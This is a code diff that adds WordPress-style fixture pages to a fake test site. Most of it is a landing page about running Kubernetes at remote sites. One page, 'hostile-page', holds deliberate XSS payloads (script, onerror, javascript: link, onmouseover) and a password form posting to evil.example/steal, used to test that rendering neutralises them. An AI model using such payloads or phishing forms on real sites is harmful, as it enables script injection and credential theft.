@@ -3,6 +3,7 @@
 // the fake itself (uploads.ts) the way <site>.files.wordpress.com serves them. See README.md beside this file
 // for what each post exercises. The words are our own; the markup is WordPress's, slips included.
 import { makePost, withTagCounts, type FakePost } from './data';
+import { blocks as pageBlocks, makePage } from './pages';
 import { AUDIO, PHOTOS, VIDEO, type Photo } from './photos';
 import { UPLOADS_PATH } from './uploads';
 
@@ -766,4 +767,126 @@ export function realisticExpectations(origin = 'http://fake.invalid'): Realistic
       embeds: REALISTIC_EMBEDS[post.ID] ?? [],
     };
   });
+}
+
+const TOUR = { ID: 8201, path: 'field-guide', title: 'Field guide' };
+
+/**
+ * The realistic data set's pages: a landing page of core blocks over real photos (a cover hero, columns, media &
+ * text, a gallery, a table, quotes, a group), its child, a page of hostile markup, one at a path the site owns
+ * (/search) and one whose parent is a draft.
+ */
+export function realisticPages(origin: string): FakePost[] {
+  const host = REALISTIC_SITE;
+  const hero = photo('ridge-dawn.jpg');
+  const [heroW] = large(hero);
+  const heroUrl = upload(origin, hero.file);
+  const heroSrcset = [heroW, 768, 1024, 2048]
+    .filter((n, i, all) => n <= hero.width && all.indexOf(n) === i)
+    .map((n) => `${heroUrl}?w=${n} ${n}w`)
+    .join(', ');
+  const cover =
+    `<div class="wp-block-cover alignfull"><span aria-hidden="true" class="wp-block-cover__background has-background-dim-60 has-background-dim"></span>` +
+    `<img class="wp-block-cover__image-background wp-image-${attachmentId(hero.file)}" alt="" src="${heroUrl}?w=${heroW}" srcset="${heroSrcset}" sizes="(max-width: ${heroW}px) 100vw, ${heroW}px" data-object-fit="cover"/>` +
+    `<div class="wp-block-cover__inner-container is-layout-constrained wp-block-cover-is-layout-constrained"><h2 class="wp-block-heading has-text-align-center">Kubernetes where the road ends</h2>\n<p class="has-text-align-center">Field-tested on ridgelines, ships and depots with one satellite link.</p>` +
+    pageBlocks.buttons(['/contact', 'Plan a site survey', 'fill'], ['/field-guide/site-survey', 'What a survey covers', 'outline']) +
+    '</div></div>';
+  return [
+    makePage(
+      {
+        ...TOUR,
+        slug: 'field-guide',
+        menu_order: 1,
+        date: '2026-11-10T09:00:00+00:00',
+        excerpt: '<p>A field guide to running clusters far from a data centre, from the first survey to the thousandth upgrade.</p>',
+        content: [
+          cover,
+          paragraphs(
+            'This guide collects what our field engineers learned installing clusters where power, cooling and bandwidth are all scarce.',
+          ),
+          pageBlocks.heading('Three things every remote site needs'),
+          pageBlocks.columns(
+            `<figure class="wp-block-image size-large">${img(origin, 'valley-noon.jpg', 'A valley at noon, a mast on the far ridge')}</figure><h3 class="wp-block-heading">A link budget</h3><p>Know what crosses the link each day before the first cluster does.</p>`,
+            `<figure class="wp-block-image size-large">${img(origin, 'fog-ridges.jpg', 'Ridges in fog, one behind the other')}</figure><h3 class="wp-block-heading">A spares plan</h3><p>Two of everything that has a fan, and a way to swap it in the dark.</p>`,
+            `<figure class="wp-block-image size-large">${img(origin, 'mesa-afternoon.jpg', 'A mesa in afternoon light')}</figure><h3 class="wp-block-heading">An upgrade window</h3><p>Upgrades roll when the link is quiet, and roll back on their own.</p>`,
+          ),
+          pageBlocks.mediaText(
+            img(origin, 'lake-dusk.jpg', 'A lake at dusk below a forested slope'),
+            '<h2 class="wp-block-heading">Quiet hardware, loud results</h2><p>Fanless nodes draw under 60 W each; a cluster of three fits in a carry-on case.</p>',
+          ),
+          pageBlocks.group(
+            pageBlocks.heading('Site checklist') +
+              pageBlocks.table(
+                ['Item', 'Why it matters', 'Owner'],
+                [
+                  ['Power survey', 'Nodes restart cleanly after brown-outs', 'Site lead'],
+                  ['Link test', 'Upgrades need a quiet window', 'Network team'],
+                  ['Spares shelf', 'A failed disk is a swap, not a flight', 'Logistics'],
+                ],
+                'The checklist our engineers carry.',
+              ),
+          ),
+          pageBlocks.gallery(
+            img(origin, 'coast-overcast.jpg', 'An overcast coast'),
+            img(origin, 'snow-peaks.jpg', 'Snow on the peaks'),
+            img(origin, 'night-valley.jpg', 'A valley at night under stars'),
+          ),
+          pageBlocks.quote('The cluster came back before the generator did.', 'A depot operator'),
+          pageBlocks.pullquote('Three nodes, one case, no data centre.', 'Field engineering'),
+          pageBlocks.list('Offline install bundle', 'Signed updates', 'Remote-hands runbook'),
+          pageBlocks.details('What if the link is down for a week?', 'The clusters keep running; upgrades wait for the link.'),
+          pageBlocks.separator,
+          pageBlocks.spacer,
+          pageBlocks.buttons(['/contact', 'Talk to a field engineer', 'fill']),
+        ].join('\n'),
+      },
+      host,
+    ),
+    makePage(
+      {
+        ID: 8202,
+        slug: 'site-survey',
+        parent: TOUR,
+        title: 'What a site survey covers',
+        date: '2026-11-11T09:00:00+00:00',
+        excerpt: '<p>The day-long visit before a remote install: power, link, space and people.</p>',
+        content: [
+          pageBlocks.image(img(origin, 'square-field.jpg', 'A field with a survey tripod'), 'Survey day starts at the mast.'),
+          paragraphs('A survey takes one day on site and one week of writing up.'),
+          pageBlocks.list('Power and cooling', 'The link and its quiet hours', 'Where the rack goes', 'Who holds the keys'),
+        ].join('\n'),
+      },
+      host,
+    ),
+    makePage(
+      {
+        ID: 8203,
+        slug: 'hostile-page',
+        title: 'Markup that must stay inert on a page',
+        excerpt: '<p onmouseover="window.__xss=\'page-excerpt\'">A page of hostile markup.</p>',
+        content: [
+          '<p>Everything below is hostile and must render as harmless markup.</p>',
+          '<script>window.__xss = "page-script"</script>',
+          '<img src="x" onerror="window.__xss=\'page-img\'" alt="broken on purpose">',
+          '<p><a href="javascript:window.__xss=\'page-link\'">A javascript: link</a></p>',
+          '<div style="position:fixed;inset:0;z-index:9999;background:#c00">full-page overlay</div>',
+          '<iframe src="https://evil.example/" title="evil"></iframe>',
+          '<form action="https://evil.example/steal"><input name="password"><button>Sign in</button></form>',
+          '<h1>A second h1 that must become an h2</h1>',
+        ].join('\n'),
+      },
+      host,
+    ),
+    makePage({ ID: 8204, slug: 'search', title: 'Search (WordPress copy)', content: '<p>Must not replace the site search.</p>' }, host),
+    makePage(
+      {
+        ID: 8205,
+        slug: 'spring-offer',
+        parent: { ID: 8299, path: 'offers', title: 'Offers (draft)' },
+        title: 'Spring offer',
+        content: '<p>Waits for its draft parent.</p>',
+      },
+      host,
+    ),
+  ];
 }
